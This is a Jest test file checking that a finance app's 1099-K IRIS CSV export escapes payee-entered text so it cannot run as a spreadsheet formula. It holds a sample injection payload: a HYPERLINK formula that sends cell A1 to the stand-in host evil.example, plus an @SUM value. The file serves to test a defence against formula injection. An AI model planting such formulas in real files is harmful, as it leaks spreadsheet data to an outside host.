import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { v7 as uuidv7 } from 'uuid';
import { payoutBody, sellGoodies } from '../../test-support/finance.js';
import { grantRole, type SignedInUser, signInAdmin, signUp } from '../../test-support/identity.js';
import { caughtUp } from '../../test-support/money.js';
import { startTestApp, type TestApp } from '../../test-support/test-app.js';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
const HOSTILE_ADDRESS = '@SUM(1+1)';

describe('IRS 1099-K export: payee-typed text cannot run as a spreadsheet formula', () => {
  let t: TestApp;
  let payee: SignedInUser;
  let finance: SignedInUser;

  beforeAll(async () => {
    t = await startTestApp();
    const admin = await signInAdmin(t);
    payee = await signUp(t);
    finance = await signUp(t);
    await grantRole(t, admin, finance.userId, 'finance');
    const saved = await t.inject({
      method: 'POST',
      url: '/client_api/account/payout_info',
      headers: payee.headers,
      payload: payoutBody({ payee_name: HOSTILE_NAME, address_line1: HOSTILE_ADDRESS }),
    });
    expect(saved.statusCode).toBe(200);
    // 201 sales of $100 in 2025: over the federal $20,000 and 200 transactions.
    for (let i = 0; i < 201; i++) {
      const at = `2025-0${(i % 9) + 1}-10T18:00:00.000Z`;
      await sellGoodies(t, {
        saleId: `x${i}`,
        creatorId: payee.userId,
        customerId: uuidv7(),
        amountCents: 10_000,
        platformFeeCents: 3_000,
        at,
      });
    }
    await caughtUp(t);
    const generated = await t.inject({
      method: 'POST',
      url: '/finance/tax_years/2025/forms',
      headers: finance.headers,
    });
    expect(generated.json()).toMatchObject({ drafted: 1 });
    await caughtUp(t);
    const forms = (
      await t.inject({
        method: 'GET',
        url: '/finance/tax_years/2025/forms',
        headers: finance.headers,
      })
    ).json<{ forms: { id: string }[] }>().forms;
    const issued = await t.inject({
      method: 'POST',
      url: `/finance/tax_forms/${forms[0]?.id ?? ''}/issue`,
      headers: finance.headers,
    });
    expect(issued.statusCode).toBe(200);
    await caughtUp(t);
  });

  afterAll(async () => {
    await t.close();
  });

  it('neutralises a name starting with = and an address starting with @ in the IRIS CSV', async () => {
    const r = await t.inject({
      method: 'GET',
      url: '/finance/tax_years/2025/export?format=iris',
      headers: finance.headers,
    });
    expect(r.statusCode).toBe(200);
    const { content } = r.json<{ content: string }>();
    const [, row] = content.split('\r\n');
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Refund"")"`);
    expect(row).toContain(`,'@SUM(1+1),`);
    // No cell of any record starts a formula (cells split on commas outside quotes).
    for (const line of content.split('\r\n').filter(Boolean)) {
      const cells = line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? [];
      for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
    }
  });
});
